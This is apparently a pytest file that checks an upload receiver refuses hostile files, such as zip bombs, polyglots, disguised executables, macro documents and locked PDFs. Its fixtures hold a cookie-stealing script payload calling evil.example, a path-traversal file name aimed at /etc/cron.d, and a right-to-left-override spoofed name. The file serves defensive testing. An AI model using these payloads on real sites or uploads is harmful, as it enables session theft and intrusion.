"""Tests of hostile files, from the first byte to the sentence that the sender reads."""

from __future__ import annotations

import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from core.uploaded_file import FileState
from store.engine import Store
from store.evidence.blobs import Blobs
from store.evidence.receiving import Receiver
from store.evidence.refusals import UploadRefused
from tests.builders import MONDAY_9AM, a_policy
from tests.store.evidence import sample_files as samples
from tests.store.evidence.sample_bytes import stored_hashes
from tests.store.evidence.uploads import FORM, stored

SCRIPT = b"<script>fetch('https://evil.example/' + document.cookie)</script>"
A_BOMB = samples.a_docx(**{"word/media/1.xml": bytes(60 * 1024 * 1024)})
A_LOCKED_PDF = samples.a_pdf().replace(
    b"/Root 1 0 R",
    b"/Root 1 0 R /ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 "
    b"/O <" + b"31" * 32 + b"> /U <" + b"32" * 32 + b"> >>",
)


@pytest.fixture
async def store(sqlite_template: Path, tmp_path: Path) -> AsyncIterator[Store]:
    """What files are doesn't hang on the database."""
    shutil.copy(sqlite_template, tmp_path / "ombud.db")
    store = Store.open(f"sqlite:///{tmp_path}/ombud.db", a_policy())
    yield store
    await store.close()


@pytest.fixture
def blobs() -> Blobs:
    return Blobs.open("memory:///")


@pytest.mark.parametrize(
    ("content", "name", "answer"),
    [
        (b"<html>" + SCRIPT, "photo.jpg", "“photo.jpg” is a web page"),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
            "logo.png",
            "is a web page or a dra",
        ),
        (b"<svg/>", "logo.svg", "“logo.svg” is a web page or a drawing that can run script"),
        (A_BOMB, "letter.docx", "“letter.docx” unpacks to far more than a document should"),
        (
            samples.a_zip({"a/b.zip": samples.a_zip({"c": bytes(10**6)})}),
            "note.docx",
            "is an archive. Unpack",
        ),
        (samples.a_png_header(60_000, 60_000), "photo.png", "has 3600 million pixels; 50 is the most"),
        (samples.a_pdf() + samples.a_zip({"run.class": b"x"}), "note.pdf", "has a second file hidden in it"),
        (samples.a_jpeg() + samples.a_zip({"run.class": b"x"}), "a.jpg", "has a second file hidden in it"),
        (samples.a_gif() + b"/*" + SCRIPT, "a.gif", "has a second file hidden in it"),
        (b"MZ\x90\x00" + bytes(200), "photo.jpg", "“photo.jpg” is a program"),
        (samples.a_pdf(), "../../../etc/cron.d/invoice.exe", "“invoice.exe” is a program"),
        (samples.a_pdf(), "invoice\u202efdp.exe", "“invoicefdp.exe” is a program"),
        (samples.a_pdf(), "photo.png", "inside it is PDF"),
        (samples.a_docx(**{"word/vbaProject.bin": b"x"}), "letter.docx", "has macros"),
        (samples.a_jpeg()[:40], "photo.jpg", "can't be opened; it seems to be damaged"),
        (A_LOCKED_PDF, "note.pdf", "“note.pdf” is locked with a password"),
        (b"%PDF-1.4\n" + SCRIPT, "note.pdf", "can't be opened; it seems to be damaged"),
        (b"\x00" * 1000, "hours.csv", "is of a type that can't be taken"),
    ],
)
async def test_every_trick_has_its_answer_and_leaves_nothing(
    store: Store, blobs: Blobs, content: bytes, name: str, answer: str
) -> None:
    with pytest.raises(UploadRefused) as refused:
        await Receiver(store, blobs).receive_whole(
            content, target=FORM, name=name, kind="other", now=MONDAY_9AM
        )
    assert answer in str(refused.value)
    assert await stored_hashes(blobs) == []
    assert await store.read(lambda tx: tx.files.list_for_draft("form-1")) == []


async def test_script_in_what_a_camera_wrote_down_is_gone(store: Store, blobs: Blobs) -> None:
    photo = samples.a_jpeg()
    at = photo.index(samples.SECRET)
    photo = photo[:at] + SCRIPT[: len(samples.SECRET)] + photo[at + len(samples.SECRET) :]
    assert b"<script>" in photo
    file = await Receiver(store, blobs).receive_whole(
        photo, target=FORM, name="photo.jpg", kind="other", now=MONDAY_9AM
    )
    assert file.state is FileState.READY
    assert b"<script>" not in await stored(blobs, file)
